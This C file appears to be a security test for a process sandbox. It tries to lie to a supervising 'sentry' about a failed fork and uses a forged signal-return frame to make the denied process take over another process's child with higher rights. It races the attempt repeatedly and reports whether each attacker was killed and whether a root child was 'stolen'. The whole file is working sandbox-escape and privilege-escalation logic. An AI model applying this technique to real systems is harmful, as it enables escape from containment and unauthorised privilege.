// Makes a host process, tells the sentry that it could not be made, and lets it begin when somebody
// else awaits a child: so it would be that child, with the other one's rights.
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include "stub.h"

#define STACK_SIZE 65536UL
#define SPINNERS 6
#define ROUNDS 20

static int *stolen;
static unsigned char child_stack[STACK_SIZE] __attribute__((aligned(16)));

static void as_child(void) {
  if (syscall(SYS_getuid) == 0) {
    *stolen = 1;
  }
  syscall(SYS_exit_group, 0);
}

// Where the child's signal return goes.
static unsigned long forged_return(void) {
  static struct {
    unsigned long restorer;
    ucontext_t context;
  } frame __attribute__((aligned(64)));
  greg_t *registers = frame.context.uc_mcontext.gregs;
  registers[REG_RIP] = (long)as_child;
  registers[REG_RSP] = (long)(child_stack + STACK_SIZE - 8);
  registers[REG_EFL] = 0x202;
  registers[REG_CSGSFS] = 0x33 | 0x2bL << 48;
  return (unsigned long)&frame;
}

static void attack(void) {
  struct mailbox *box = (struct mailbox *)STUB_SLOTS;
  unsigned long frame = forged_return();
  if (setgid(1000) != 0 || setuid(1000) != 0 || forged_event(SIGSYS, forged_frame(SYS_fork, 0, 0, 0)) != ORDER_CLONE ||
      stub_call((long)box->calls[0].number, box->calls[0].args, frame) < 0) {
    exit(1);
  }
  stub_hypercall(HYPER_DONE, -11, 0);
  // What the liar becomes now, a set-user-ID program perhaps, would be the parent of the denied process.
  execl("/bin/echo", "echo", "who has lied goes on", NULL);
  exit(1);
}

int main(void) {
  stolen = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
  setvbuf(stdout, NULL, _IONBF, 0);
  printf("before\n");
  pid_t spinners[SPINNERS];
  for (int i = 0; i < SPINNERS; i++) {
    if ((spinners[i] = fork()) == 0) {
      for (;;) {
      }
    }
  }
  int killed = 0;
  for (int round = 0; round < ROUNDS && !*stolen; round++) {
    pid_t attacker = fork();
    if (attacker == 0) {
      attack();
    }
    int status;
    while (waitpid(attacker, &status, WNOHANG) == 0) {
      pid_t child = fork();
      if (child == 0) {
        _exit(0);
      }
      if (child > 0) {
        waitpid(child, NULL, 0);
      }
    }
    killed += WIFSIGNALED(status) && WTERMSIG(status) == SIGKILL;
  }
  for (int i = 0; i < SPINNERS; i++) {
    kill(spinners[i], SIGKILL);
  }
  printf("killed: %s\n", killed == ROUNDS ? "each who lied" : "not all");
  printf(*stolen ? "a child was stolen\n" : "no child was stolen\n");
  return 0;
}
